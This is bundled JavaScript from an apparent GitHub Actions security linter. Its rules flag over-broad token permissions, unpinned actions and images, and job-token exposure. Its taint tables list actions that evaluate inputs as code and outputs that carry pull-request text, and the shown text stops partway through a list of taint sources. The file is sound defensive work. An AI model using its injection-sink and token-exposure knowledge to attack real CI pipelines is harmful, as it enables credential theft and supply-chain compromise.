/** The scopes in the order GitHub documents them. */
function grantEntries(grants) {
    const out = [];
    for (const scope of SCOPES) {
        const access = grants[scope];
        if (access)
            out.push([scope, access]);
    }
    return out;
}
/** `{contents: read, id-token: write}`, or `{}`: the flow form used in messages. */
function formatGrants(grants) {
    return `{${grantEntries(grants)
        .map(([scope, access]) => `${scope}: ${access}`)
        .join(", ")}}`;
}
/** Every scope at one level: what `read-all` / `write-all` grant. */
function allScopes(level) {
    const out = {};
    for (const scope of SCOPES) {
        if (scope === "id-token" && level === "read")
            continue; // id-token has no read level
        out[scope] = scope === "models" ? "read" : level;
    }
    return out;
}
//# sourceMappingURL=scopes.js.map

/***/ }),

/***/ 37990:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ru: () => (/* binding */ valueText),
/* harmony export */   WH: () => (/* binding */ stepEnv),
/* harmony export */   aA: () => (/* binding */ tokenKind),
/* harmony export */   fA: () => (/* binding */ embedsJobToken),
/* harmony export */   fK: () => (/* binding */ tokenVariables)
/* harmony export */ });
/* harmony import */ var _expressions_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(62755);
/* harmony import */ var _model_source_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11257);


/** `github` and `secrets` as a whole (`toJSON(github)`) carry the token too. */
const JOB_TOKEN_PATHS = new Set(["github.token", "secrets.github_token", "github", "secrets", "secrets.*", "github.*"]);
const TEXT_JOB_TOKEN = /\$\{\{[^}]*\b(?:github\.token|secrets\.github_token)\b/i;
/** Environment a step sees: workflow `env:`, then job `env:`, then step `env:` (later wins). */
function stepEnv(workflow, job, step) {
    const env = new Map();
    for (const source of [workflow?.env, job?.env, step?.env]) {
        if (!source)
            continue;
        for (const [name, node] of source)
            env.set(name, valueText(node));
    }
    return env;
}
/** Text of a `with:` or `env:` value; non-scalars become their YAML text. */
function valueText(node) {
    if (node === undefined)
        return "";
    if ((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .isScalar */ .jn)(node))
        return (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(node) ?? "";
    return String(node);
}
/**
 * Classifies a value: `${{ github.token }}` / `${{ secrets.GITHUB_TOKEN }}` (also inside a
 * fallback such as `secrets.PAT || github.token`) is the job token; `${{ env.X }}` is resolved
 * through the environment; any other non-empty value is another credential.
 */
function tokenKind(value, env = new Map(), depth = 0) {
    if (value === undefined || value.trim() === "")
        return "none";
    const spans = (0,_expressions_js__WEBPACK_IMPORTED_MODULE_0__/* .findExpressions */ .zV)(value);
    if (spans.length === 0)
        return "other";
    for (const span of spans) {
        for (const { path } of (0,_expressions_js__WEBPACK_IMPORTED_MODULE_0__/* .contextPaths */ .A9)(span.inner)) {
            if (JOB_TOKEN_PATHS.has(path))
                return "job";
            if (path.startsWith("env.") && depth < 4) {
                const name = [...env.keys()].find((k) => k.toLowerCase() === path.slice(4));
                if (name !== undefined && tokenKind(env.get(name), env, depth + 1) === "job")
                    return "job";
            }
        }
        if (TEXT_JOB_TOKEN.test(span.text))
            return "job"; // expressions the parser rejects
    }
    return "other";
}
/** Environment variables of a step whose value is the job token. */
function tokenVariables(env) {
    const out = new Set();
    for (const [name, value] of env)
        if (tokenKind(value, env) === "job")
            out.add(name);
    return out;
}
/** True when a script embeds the job token through an expression. */
function embedsJobToken(text) {
    return (0,_expressions_js__WEBPACK_IMPORTED_MODULE_0__/* .findExpressions */ .zV)(text).some((span) => (0,_expressions_js__WEBPACK_IMPORTED_MODULE_0__/* .contextPaths */ .A9)(span.inner).some(({ path }) => JOB_TOKEN_PATHS.has(path)) || TEXT_JOB_TOKEN.test(span.text));
}
//# sourceMappingURL=token.js.map

/***/ }),

/***/ 77045:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   O: () => (/* binding */ parsePolicy),
/* harmony export */   X: () => (/* binding */ EMPTY_POLICY)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _peptide_core__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(57775);
/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(8413);
/* harmony import */ var _model_source_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(11257);
/* harmony import */ var _glob_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(78889);





const EMPTY_POLICY = { disabled: new Set(), severity: new Map(), ignore: [], classes: [] };
/** Default matchers for the class names the docs use, so `pull_request_tests: {...}` works alone. */
const DEFAULT_MATCH = {
    pull_request_tests: { events: ["pull_request", "pull_request_target", "merge_group"] },
    main_branch_build: { events: ["push"], branches: ["main", "master"] },
    production_deploy: { environments: ["production", "prod"] },
    release: { events: ["release"] },
};
function parsePolicy(file, text) {
    const source = new _model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .SourceFile */ .sC(file, text);
    const fail = (node, what) => {
        const at = source.positionOf(node);
        throw new _peptide_core__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz("CONFIG_INVALID", `${file}:${at.line}: ${what}`);
    };
    if (source.doc.errors.length > 0) {
        const err = source.doc.errors[0];
        const at = source.position(err.pos[0]);
        throw new _peptide_core__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz("CONFIG_INVALID", `${file}:${at.line}: not valid YAML (${err.message.split("\n")[0]})`);
    }
    const root = source.root;
    if (source.doc.contents !== null && !root)
        fail(source.doc.contents, "the policy must be a mapping with `rules`, `ignore` and `classes`");
    const policy = { file, disabled: new Set(), severity: new Map(), ignore: [], classes: [] };
    for (const [key, pair] of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(root)) {
        if (!["rules", "ignore", "classes"].includes(key))
            fail(pair, `unknown key \`${key}\`; expected rules, ignore or classes`);
    }
    for (const [rule, pair] of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "rules"))) {
        const value = pair.value;
        const text = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(value) ?? (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(value, "severity");
        const enabled = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(value, "enabled"));
        if (text === "off" || text === "false" || enabled === "false")
            policy.disabled.add(rule);
        else if (text && (0,_finding_js__WEBPACK_IMPORTED_MODULE_3__/* .isSeverity */ ._Z)(text))
            policy.severity.set(rule, text);
        else if (text !== "on" && text !== "true")
            fail(pair, `rules.${rule}: expected off or a severity (low, medium, high, critical)`);
    }
    for (const item of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .listOf */ .c3)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "ignore"))) {
        const glob = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(item);
        if (!glob)
            fail(item, "ignore: expected a list of path globs");
        else
            policy.ignore.push((0,_glob_js__WEBPACK_IMPORTED_MODULE_4__/* .globToRegExp */ .t)(glob));
    }
    for (const [name, pair] of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "classes"))) {
        if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(pair.value))
            fail(pair, `classes.${name}: expected a mapping`);
        policy.classes.push(parseClass(name, pair.value, fail));
    }
    return policy;
}
function parseClass(name, node, fail) {
    const cls = { name, match: DEFAULT_MATCH[name] ?? {} };
    const matchNode = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "match");
    if (matchNode) {
        const list = (key) => {
            const items = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .listOf */ .c3)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(matchNode, key)).map(_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws).filter((v) => v !== undefined);
            return items.length > 0 ? items : undefined;
        };
        const files = list("files");
        cls.match = { events: list("events"), branches: list("branches"), environments: list("environments"), jobs: list("jobs"), files: files?.map(_glob_js__WEBPACK_IMPORTED_MODULE_4__/* .globToRegExp */ .t) };
    }
    else if (!DEFAULT_MATCH[name]) {
        fail(node, `classes.${name}: add a \`match:\` (events, branches, environments, jobs or files) to say which jobs it covers`);
    }
    const secrets = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(node, "secrets");
    if (secrets !== undefined) {
        if (secrets !== "none" && secrets !== "minimal" && secrets !== "any")
            fail((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "secrets"), `classes.${name}.secrets: expected none, minimal or any`);
        cls.secrets = secrets;
    }
    const bool = (key) => {
        const text = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(node, key);
        if (text === undefined)
            return undefined;
        if (text !== "true" && text !== "false")
            fail((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, key), `classes.${name}.${key}: expected true or false`);
        return text === "true";
    };
    cls.deploy = bool("deploy");
    cls.artifactWrite = bool("artifact_write");
    const environment = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(node, "environment");
    if (environment !== undefined) {
        if (environment !== "required" && environment !== "forbidden")
            fail((0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "environment"), `classes.${name}.environment: expected required or forbidden`);
        cls.environment = environment;
    }
    const perms = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "permissions");
    if (perms) {
        cls.permissions = {};
        for (const [scope, pair] of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(perms)) {
            const level = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(pair.value);
            if (level !== "read" && level !== "write" && level !== "none")
                fail(pair, `classes.${name}.permissions.${scope}: expected read, write or none`);
            cls.permissions[scope] = level;
        }
    }
    return cls;
}
//# sourceMappingURL=config.js.map

/***/ }),

/***/ 78889:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   _: () => (/* binding */ matchesAny),
/* harmony export */   t: () => (/* binding */ globToRegExp)
/* harmony export */ });
/** Compiles a path glob (`**`, `*`, `?`) to a RegExp matched against `/`-separated paths. */
function globToRegExp(glob) {
    let re = "";
    for (let i = 0; i < glob.length; i++) {
        const ch = glob[i];
        if (ch === "*") {
            if (glob[i + 1] === "*") {
                const slash = glob[i + 2] === "/";
                re += slash ? "(?:.*/)?" : ".*";
                i += slash ? 2 : 1;
            }
            else
                re += "[^/]*";
        }
        else if (ch === "?")
            re += "[^/]";
        else
            re += ch.replace(/[.+^${}()|[\]\\]/g, "\\$&");
    }
    return new RegExp(`^${re}$`);
}
function matchesAny(file, globs) {
    const normalized = file.split("\\").join("/").replace(/^\.\//, "");
    return globs.some((g) => g.test(normalized) || g.test(`${normalized}/`));
}
//# sourceMappingURL=glob.js.map

/***/ }),

/***/ 42043:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  y: () => (/* binding */ RULES),
  B: () => (/* binding */ ruleById)
});

// EXTERNAL MODULE: ./packages/workflow/dist/permissions/compute.js
var compute = __webpack_require__(72410);
// EXTERNAL MODULE: ./packages/workflow/dist/walk.js
var walk = __webpack_require__(78443);
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/scopes.js
var scopes = __webpack_require__(51630);
;// CONCATENATED MODULE: ./packages/workflow/dist/permissions/messages.js


/** `job \`a\``, `jobs \`a\`, \`b\`` or `jobs \`a\`, \`b\`, \`c\` and 4 more`. */
function jobList(ids) {
    const shown = ids.slice(0, 3).map((id) => `\`${id}\``);
    const more = ids.length > 3 ? ` and ${ids.length - 3} more` : "";
    return `${ids.length === 1 ? "job" : "jobs"} ${shown.join(", ")}${more}`;
}
/** "`permissions: {contents: read}`", with the steps we could not classify when there are any. */
function neededText(req) {
    const block = `\`permissions: ${(0,scopes/* formatGrants */.N_)(req.scopes)}\``;
    if (req.unknown.length === 0)
        return `it needs ${block}`;
    return `the steps we could classify need ${block}; add what we could not classify: ${unknownList(req.unknown)}`;
}
function unknownList(unknown) {
    const shown = unknown.slice(0, 2).join(" and ");
    return unknown.length > 2 ? `${shown} and ${unknown.length - 2} more` : shown;
}
/** Triggers under which a write token meets untrusted input: findings there are more severe. */
const EXPOSED_TRIGGERS = new Set(["pull_request_target", "workflow_run", "issue_comment", "pull_request_review_comment", "issues", "discussion_comment"]);
function exposedTrigger(workflow) {
    return [...(0,walk/* eventNames */.Z2)(workflow)].find((e) => EXPOSED_TRIGGERS.has(e));
}
//# sourceMappingURL=messages.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/model/source.js
var model_source = __webpack_require__(11257);
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/missing-permissions.js




/**
 * A job that sets no `permissions:` in a workflow that sets none at the top runs with the
 * repository's default GITHUB_TOKEN, which in many organisations can write to everything. A
 * workflow without a top-level block whose jobs all declare their own is fine: each job is scoped.
 */
const missingPermissions = {
    id: "missing-permissions",
    title: "Job runs with the default GITHUB_TOKEN permissions",
    severity: "medium",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow" || workflow.permissions)
            return;
        const exposed = exposedTrigger(workflow) !== undefined;
        for (const job of workflow.jobs) {
            if (job.permissions)
                continue;
            const req = (0,compute/* requiredPermissions */.k)(job, workflow);
            const opaqueCall = job.uses !== undefined && req.unknown.length > 0;
            const message = opaqueCall
                ? `job \`${job.id}\` calls \`${((0,model_source/* scalarText */.ws)(job.uses) ?? "").replace(/@.*/, "")}\` with the default GITHUB_TOKEN permissions (write to everything in many orgs); give it a \`permissions:\` block with what the called workflow's jobs need (\`permissions: {}\` if nothing)`
                : `job \`${job.id}\` runs with the default GITHUB_TOKEN permissions (write to everything in many orgs); ${neededText(req)} (peptide audit --fix writes it)`;
            ctx.report({
                at: workflow.source.positionOf(job.keyNode),
                job: job.id,
                message,
                severity: exposed ? "high" : undefined,
                confidence: opaqueCall ? "medium" : undefined,
                fix: opaqueCall ? undefined : { kind: "permissions", job: job.id, scopes: Object.fromEntries((0,scopes/* grantEntries */.nE)(req.scopes)) },
            });
        }
    },
};
//# sourceMappingURL=missing-permissions.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/excess.js
var permissions_excess = __webpack_require__(61456);
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/excessive-permissions.js



/**
 * A `permissions:` block that grants more than the jobs under it need: `write-all`, `read-all`,
 * or a scope none of the job's steps uses. Scopes of a job with steps we could not classify are
 * not reported (those steps may need them); `write-all` is, with low confidence.
 */
const excessivePermissions = {
    id: "excessive-permissions",
    title: "GITHUB_TOKEN permissions broader than the job needs",
    severity: "medium",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow")
            return;
        const reqs = (0,permissions_excess/* requirementsOf */.CG)(workflow);
        const writeSeverity = exposedTrigger(workflow) ? "high" : "medium";
        checkTopLevel(ctx, workflow, reqs, writeSeverity);
        for (const job of workflow.jobs) {
            const req = reqs.get(job.id);
            if (job.permissions && req)
                checkJob(ctx, job, req, writeSeverity);
        }
    },
};
const TOP_FIX = { kind: "permissions", scopes: {} };
function jobFix(job, req) {
    return req.unknown.length > 0 ? undefined : { kind: "permissions", job: job.id, scopes: Object.fromEntries((0,scopes/* grantEntries */.nE)(req.scopes)) };
}
function checkTopLevel(ctx, workflow, reqs, writeSeverity) {
    const block = workflow.permissions;
    if (!block)
        return;
    const heirs = (0,permissions_excess/* inheritors */.yH)(workflow);
    if (block.kind === "all") {
        const needs = heirs.map((job) => `\`${job.id}\` needs ${needsOf(reqs.get(job.id))}`).slice(0, 3).join(", ");
        if (heirs.length === 0 && block.level === "read")
            return; // overridden everywhere, and only reads (the Scorecard template)
        const message = heirs.length === 0
            ? `top-level \`permissions: ${block.level}-all\` is unused (every job sets its own) but any new job would inherit it; set \`permissions: {}\``
            : `top-level \`permissions: ${block.level}-all\` gives ${jobList(heirs.map((j) => j.id))} ${block.level} access to every scope; ${needs}; set \`permissions: {}\` at the top and grant each job its own (peptide audit --fix does)`;
        const unknown = heirs.some((job) => (reqs.get(job.id)?.unknown.length ?? 0) > 0);
        ctx.report({
            at: block.pos,
            message,
            severity: block.level === "write" ? "high" : "low",
            confidence: unknown && block.level === "write" ? "medium" : "high",
            fix: TOP_FIX,
        });
        return;
    }
    for (const excess of (0,permissions_excess/* topExcess */.fm)(workflow, reqs)) {
        const grant = `\`${excess.scope}: ${excess.declared}\``;
        let message;
        if (excess.unneededBy.length === 0) {
            message = `top-level ${grant} is unused (every job sets its own \`permissions:\`) but any new job would inherit it; remove it`;
        }
        else if (excess.neededBy.length > 0) {
            message = `top-level ${grant} is inherited by ${jobList(excess.unneededBy)}, which ${excess.unneededBy.length === 1 ? "does" : "do"} not need it (only ${jobList(excess.neededBy)} may); grant it there and set \`permissions: {}\` at the top (peptide audit --fix does)`;
        }
        else {
            const needs = excess.unneededBy.map((id) => `\`${id}\` needs ${needsOf(reqs.get(id))}`).slice(0, 3).join(", ");
            message = `top-level ${grant} is inherited by ${jobList(excess.unneededBy)}, none of which needs it; ${needs} (peptide audit --fix writes them)`;
        }
        ctx.report({
            at: excess.pos,
            message,
            severity: excess.unneededBy.length === 0 || excess.declared === "read" ? "low" : writeSeverity,
            fix: TOP_FIX,
        });
    }
}
function checkJob(ctx, job, req, writeSeverity) {
    const block = job.permissions;
    if (!block)
        return;
    const unknown = req.unknown.length > 0;
    if (block.kind === "all") {
        ctx.report({
            at: block.pos,
            job: job.id,
            message: `job \`${job.id}\` has \`permissions: ${block.level}-all\`, ${block.level} access to every scope; ${neededText(req)}`,
            severity: block.level === "write" ? "high" : "low",
            confidence: unknown ? "low" : "high",
            fix: jobFix(job, req),
        });
        return;
    }
    for (const excess of (0,permissions_excess/* jobExcess */.lJ)(block, req)) {
        const grant = `\`${excess.scope}: ${excess.declared}\``;
        const onlyReads = excess.declared === "write" && req.scopes[excess.scope] === "read";
        ctx.report({
            at: excess.pos,
            job: job.id,
            message: `job \`${job.id}\` has ${grant}, ${onlyReads ? "but its steps only read" : "which none of its steps needs"}; ${neededText(req)}`,
            severity: excess.declared === "write" ? writeSeverity : "low",
            fix: jobFix(job, req),
        });
    }
}
function needsOf(req) {
    if (!req)
        return "`{}`";
    const block = `\`${(0,scopes/* formatGrants */.N_)(req.scopes)}\``;
    return req.unknown.length > 0 ? `${block} plus whatever ${req.unknown.length === 1 ? "one step we could not classify needs" : `${req.unknown.length} steps we could not classify need`}` : block;
}
//# sourceMappingURL=excessive-permissions.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/uses.js
var dist_uses = __webpack_require__(72786);
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/unpinned-uses.js



/**
 * Actions and reusable workflows must be pinned to a full commit SHA: a tag or branch can be
 * moved to new code after review (tj-actions/changed-files, March 2025).
 */
const unpinnedUses = {
    id: "unpinned-uses",
    title: "Action or reusable workflow not pinned to a commit SHA",
    severity: "high",
    confidence: "high",
    check(ctx) {
        const { target } = ctx;
        const source = target.source;
        const checkUses = (node, job, step) => {
            const raw = (0,model_source/* scalarText */.ws)(node);
            if (!raw)
                return;
            const ref = (0,dist_uses/* parseUses */.Ap)(raw);
            if (ref.kind !== "remote" || (0,dist_uses/* isShaRef */.AU)(ref.ref))
                return;
            const name = (0,dist_uses/* actionName */.aM)(ref);
            // The SLSA generator's reusable workflows verify the tag they are called by and fail on a SHA.
            if (ref.reusable && name.startsWith("slsa-framework/slsa-github-generator/") && /^v\d+\.\d+\.\d+$/.test(ref.ref ?? ""))
                return;
            const firstParty = dist_uses/* FIRST_PARTY_OWNERS */.Jd.has(ref.owner.toLowerCase());
            const what = ref.reusable ? "reusable workflow" : "action";
            const message = ref.ref === undefined
                ? `${what} ${name} has no ref at all; pin it to a commit SHA with a # vX.Y.Z comment`
                : `${what} ${name}@${ref.ref} is pinned to a ${/^v?\d+(\.\d+)*$/.test(ref.ref) ? "tag" : "branch or tag"} that can move; pin it to the commit SHA (peptide audit --fix does) with a # ${ref.ref} comment`;
            ctx.report({
                at: source.positionOf(node),
                message,
                job,
                step,
                severity: firstParty ? "medium" : "high",
                fix: ref.ref === undefined ? undefined : { kind: "pin", action: [ref.owner, ref.repo].join("/"), ref: ref.ref, line: source.positionOf(node).line },
            });
        };
        for (const { step, job } of (0,walk/* allSteps */.Bd)(target))
            if (step.uses)
                checkUses(step.uses, job?.id, step.index);
        if (target.kind === "workflow")
            for (const job of target.jobs)
                if (job.uses)
                    checkUses(job.uses, job.id);
    },
};
//# sourceMappingURL=unpinned-uses.js.map
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
// EXTERNAL MODULE: ./packages/workflow/dist/expressions.js
var expressions = __webpack_require__(62755);
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/unpinned-image.js





/** How an image reference is pinned: `registry:5000/name:tag@sha256:...`. */
function imagePinning(image) {
    const ref = image.trim();
    if ((0,dist_uses/* isDigestPinned */.H_)(ref))
        return "digest";
    const lastSegment = ref.slice(ref.lastIndexOf("/") + 1);
    const colon = lastSegment.indexOf(":");
    if (colon < 0)
        return "untagged";
    const tag = lastSegment.slice(colon + 1).split("@")[0];
    return tag === "latest" || tag === "" ? "latest" : "tag";
}
/**
 * Container images (job containers, service containers, `docker://` steps and Docker actions'
 * `runs.image`) must be pinned by digest: a tag is re-pushed at will by whoever controls it.
 */
const unpinnedImage = {
    id: "unpinned-image",
    title: "Container image not pinned by digest",
    severity: "high",
    confidence: "high",
    check(ctx) {
        const { target } = ctx;
        if (target.kind === "action") {
            const image = (0,model_source/* scalarText */.ws)(target.image);
            if (target.image && image?.startsWith("docker://"))
                checkImage(ctx, target.image, image.slice("docker://".length), "the action's runs.image");
        }
        for (const { step, job } of (0,walk/* allSteps */.Bd)(target)) {
            const raw = (0,model_source/* scalarText */.ws)(step.uses);
            if (!step.uses || !raw)
                continue;
            const ref = (0,dist_uses/* parseUses */.Ap)(raw);
            if (ref.kind === "docker")
                checkImage(ctx, step.uses, ref.image, `step ${step.name ?? step.index + 1}${job ? ` of job ${job.id}` : ""}`, job, step.index);
        }
        if (target.kind !== "workflow")
            return;
        for (const job of target.jobs) {
            const container = job.container;
            const image = (0,dist.isScalar)(container) ? container : (0,model_source/* valueOf */.RP)(container, "image");
            if ((0,dist.isScalar)(image))
                checkImage(ctx, image, (0,model_source/* scalarText */.ws)(image) ?? "", `the container of job ${job.id}`, job);
            for (const [name, pair] of (0,model_source/* entries */.jO)(job.services)) {
                const serviceImage = (0,model_source/* valueOf */.RP)(pair.value, "image");
                if ((0,dist.isScalar)(serviceImage))
                    checkImage(ctx, serviceImage, (0,model_source/* scalarText */.ws)(serviceImage) ?? "", `service ${name} of job ${job.id}`, job);
            }
        }
    },
};
function checkImage(ctx, node, image, where, job, step) {
    const candidates = resolve(image, job);
    if (!candidates)
        return;
    let worst;
    for (const candidate of candidates) {
        const pinning = imagePinning(candidate);
        if (pinning === "digest")
            continue;
        if (!worst || (worst.pinning === "tag" && pinning !== "tag"))
            worst = { image: candidate, pinning };
    }
    if (!worst)
        return;
    const { pinning } = worst;
    const shown = worst.image === image ? image : `${worst.image} (from ${image})`;
    const what = pinning === "tag" ? "a tag that can be re-pushed" : pinning === "latest" ? "`latest`, which moves with every push" : "no tag at all (so `latest`)";
    ctx.report({
        at: ctx.target.source.positionOf(node),
        job: job?.id,
        step,
        severity: pinning === "tag" ? "medium" : "high",
        message: `image ${shown} for ${where} is referenced by ${what}; pin it by digest (\`name:tag@sha256:<digest>\`) and let Dependabot or Renovate update it`,
    });
}
/**
 * The literal images an `image:` value can be: itself, or each value of the matrix key it names
 * (`${{ matrix.image }}`). Undefined when it cannot be known statically, or is empty.
 */
function resolve(image, job) {
    const text = image.trim();
    if (!text)
        return undefined;
    if (!text.includes("${{"))
        return [text];
    if (!(0,expressions/* isWholeExpression */.EE)(text) || !job)
        return undefined;
    const inner = (0,expressions/* findExpressions */.zV)(text)[0].inner;
    const paths = (0,expressions/* contextPaths */.A9)(inner);
    if (paths.length !== 1 || !/^[\w-]+$/.test(inner.replace(/^matrix\./, "")) || !paths[0].path.startsWith("matrix."))
        return undefined;
    const key = inner.replace(/^matrix\./, "").trim();
    return matrixValues(job, key);
}
function matrixValues(job, key) {
    const matrix = (0,model_source/* valueOf */.RP)(job.strategy, "matrix");
    if (!(0,dist.isMap)(matrix))
        return undefined;
    const values = [];
    const list = (0,model_source/* valueOf */.RP)(matrix, key);
    if (list !== undefined) {
        if (!(0,dist.isSeq)(list))
            return undefined;
        for (const item of list.items) {
            const value = (0,model_source/* scalarText */.ws)(item);
            if (value === undefined || value.includes("${{"))
                return undefined;
            values.push(value);
        }
    }
    const include = (0,model_source/* valueOf */.RP)(matrix, "include");
    if (include !== undefined) {
        if (!(0,dist.isSeq)(include))
            return undefined;
        for (const item of include.items) {
            const node = (0,model_source/* valueOf */.RP)(item, key);
            if (node === undefined)
                continue;
            const value = (0,model_source/* scalarText */.ws)(node);
            if (value === undefined || value.includes("${{"))
                return undefined;
            values.push(value);
        }
    }
    return values.length > 0 ? values : undefined;
}
//# sourceMappingURL=unpinned-image.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/actions.js
/**
 * What the taint rules know about particular actions: inputs they evaluate as code, outputs that
 * carry pull-request text, outputs that cannot. Keys are lower-case `owner/repo[/path]`.
 */
const js = (name) => `process.env.${name}`;
const shell = (name) => `"$${name}"`;
const pwsh = (name) => `$env:${name}`;
const python = (name) => `os.environ["${name}"]`;
const CODE_SINKS = new Map([
    ["actions/github-script", { inputs: ["script"], language: "javascript", envRead: js }],
    ["cardinalby/js-eval-action", { inputs: ["expression"], language: "javascript", envRead: js }],
    ["amadevus/pwsh-script", { inputs: ["script"], language: "powershell", envRead: pwsh }],
    ["azure/powershell", { inputs: ["inlinescript"], language: "powershell", envRead: pwsh }],
    ["azure/cli", { inputs: ["inlinescript"], language: "shell", envRead: shell }],
    ["jannekem/run-python-script-action", { inputs: ["script"], language: "python", envRead: python }],
    ["appleboy/ssh-action", { inputs: ["script"], language: "shell", envRead: shell }],
    ["addnab/docker-run-action", { inputs: ["run"], language: "shell", envRead: shell }],
    ["mikefarah/yq", { inputs: ["cmd"], language: "shell", envRead: shell }],
    ["nick-fields/retry", { inputs: ["command"], language: "shell", envRead: shell }],
    ["nick-invision/retry", { inputs: ["command"], language: "shell", envRead: shell }],
    ["uses-dev/run-on-arch-action", { inputs: ["run"], language: "shell", envRead: shell }],
    ["uraimo/run-on-arch-action", { inputs: ["run"], language: "shell", envRead: shell }],
]);
/** Actions whose outputs carry text from a pull request or a push. */
const TAINTED_OUTPUTS = [
    { action: "xt0rted/pull-request-comment-branch", outputs: /^head_ref$/, origin: "the pull request's head branch name", events: ["issue_comment"], multiline: false },
    { action: "tj-actions/branch-names", outputs: /branch|ref/, origin: "a branch name", events: ["pull_request", "pull_request_target", "push", "workflow_run"], multiline: false },
    { action: "tj-actions/changed-files", outputs: /files|_keys$/, origin: "file names from the change set", events: ["pull_request", "pull_request_target", "push", "workflow_run", "issue_comment"], multiline: false },
    { action: "dorny/paths-filter", outputs: /_files$/, origin: "file names from the change set", events: ["pull_request", "pull_request_target", "push", "workflow_run"], multiline: false },
];
/** Actions whose outputs are versions, digests, ids, booleans, paths or tokens: not attacker text. */
const SAFE_OUTPUT_PREFIXES = [
    "actions/checkout", "actions/setup-", "actions/cache", "actions/upload-artifact", "actions/download-artifact",
    "actions/create-github-app-token", "actions/attest", "actions/configure-pages", "actions/deploy-pages",
    "tibdex/github-app-token", "docker/", "sigstore/", "google-github-actions/", "aws-actions/",
    "azure/login", "hashicorp/setup-", "slsa-framework/", "anchore/", "github/codeql-action",
];
function hasSafeOutputs(action) {
    return SAFE_OUTPUT_PREFIXES.some((p) => action === p || action.startsWith(p.endsWith("/") || p.endsWith("-") ? p : `${p}/`));
}
//# sourceMappingURL=actions.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/memo.js
var memo = __webpack_require__(92836);
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/contexts.js

const PR_EVENTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
const ISSUE_EVENTS = ["issues", "issue_comment"];
const COMMENT_EVENTS = ["issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment"];
const DISCUSSION_EVENTS = ["discussion", "discussion_comment"];
const line = (pattern, events) => ({ pattern, events, multiline: false, control: "anyone" });
const contexts_text = (pattern, events) => ({ pattern, events, multiline: true, control: "anyone" });
const COMMIT_FIELDS = ["message", "author.name", "author.email", "committer.name", "committer.email"];
const TAINT_SOURCES = [
    contexts_text("github.event.issue.title", ISSUE_EVENTS),
